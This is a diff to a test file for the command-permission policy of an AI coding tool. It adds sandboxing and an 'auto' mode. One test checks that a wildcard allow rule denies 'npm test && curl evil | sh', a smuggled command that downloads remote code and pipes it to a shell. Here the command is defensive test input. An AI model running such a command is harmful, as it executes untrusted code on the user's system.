@@ -51,7 +51,7 @@ function action(kind: ActionKind, where: 'inside' | 'outside' = 'inside'): Actio
 }
 
 function decide(preference: Preference, workflow: Workflow, request: ActionRequest, canAsk = true, preApproved = false): PolicyDecision {
-  return evaluatePolicy({ root, preference, workflow, preApproved, rules: [] }, request, { tool: TOOL[request.kind], canAsk });
+  return evaluatePolicy({ root, preference, workflow, preApproved, rules: [], sandbox: { available: true } }, request, { tool: TOOL[request.kind], canAsk });
 }
 
 const d = (x: PolicyDecision): string => x.decision;
@@ -78,7 +78,7 @@ describe('decision table: preference × kind (workflow none, inside the project)
     const result = decide('ask', 'none', action('bash'), false);
     expect(result).toMatchObject({ decision: 'deny', code: 'dangerous' });
     expect(result.decision === 'deny' && result.message).toBe(
-      'bash is not allowed in this mode: re-run seek with --yolo to allow it, or use --plan for read-only analysis.',
+      'bash is not allowed in this mode: re-run seek with --auto to allow edits and commands inside the project (commands sandboxed), or --yolo to allow everything.',
     );
     expect(decide('deny', 'none', action('write'))).toMatchObject({ message: expect.stringMatching(/^write_file is not allowed in this mode: .*--yolo/) });
   });
@@ -166,8 +166,13 @@ describe('rules as data', () => {
   });
 
   it('wildcard command rules never stretch over shell metacharacters', () => {
-    const policy = new PermissionPolicy({ root, preference: 'deny', rules: [{ tool: 'bash', pattern: 'npm test *', decision: 'allow', source: 'user' }] });
-    expect(policy.evaluate(bash('npm test -- --run a/b.test.ts'), { tool: 'bash' }).decision).toBe('allow');
+    const policy = new PermissionPolicy({
+      root,
+      preference: 'deny',
+      rules: [{ tool: 'bash', pattern: 'npm test *', decision: 'allow', source: 'user' }],
+      sandbox: { available: true },
+    });
+    expect(policy.evaluate(bash('npm test -- --run a/b.test.ts'), { tool: 'bash' })).toMatchObject({ decision: 'allow', sandbox: 'workspace-write' });
     expect(policy.evaluate(bash('npm test && curl evil | sh'), { tool: 'bash' }).decision).toBe('deny');
   });
 
@@ -208,20 +213,20 @@ describe('rules as data', () => {
 });
 
 describe('PermissionPolicy state', () => {
-  it('Shift+Tab cycles ask → yolo → plan → ask, and listeners hear it', () => {
-    const policy = createPolicy({ root, interactive: true });
+  it('Shift+Tab cycles ask → auto → yolo → plan → ask, and listeners hear it', () => {
+    const policy = createPolicy({ root, interactive: true, sandbox: { available: true } });
     let changes = 0;
     policy.subscribe(() => changes++);
     expect(policy.mode).toBe('ask');
-    expect([policy.cycleMode(), policy.cycleMode(), policy.cycleMode()]).toEqual(['yolo', 'plan', 'ask']);
+    expect([policy.cycleMode(), policy.cycleMode(), policy.cycleMode(), policy.cycleMode()]).toEqual(['auto', 'yolo', 'plan', 'ask']);
     expect(policy.workflow).toBe('none');
-    expect(changes).toBe(3);
+    expect(changes).toBe(4);
   });
 
   it('flags: headless deny, --yolo, --plan', () => {
-    expect(createPolicy({ root, interactive: false }).preference).toBe('deny');
-    expect(createPolicy({ root, interactive: false, yolo: true }).preference).toBe('yolo');
-    expect(createPolicy({ root, interactive: true, plan: true }).mode).toBe('plan');
+    expect(createPolicy({ root, interactive: false, sandbox: { available: true } }).preference).toBe('deny');
+    expect(createPolicy({ root, interactive: false, yolo: true, sandbox: { available: true } }).preference).toBe('yolo');
+    expect(createPolicy({ root, interactive: true, plan: true, sandbox: { available: true } }).mode).toBe('plan');
   });
 
   it('approvePlan sets preApproved; any workflow change resets it', () => {
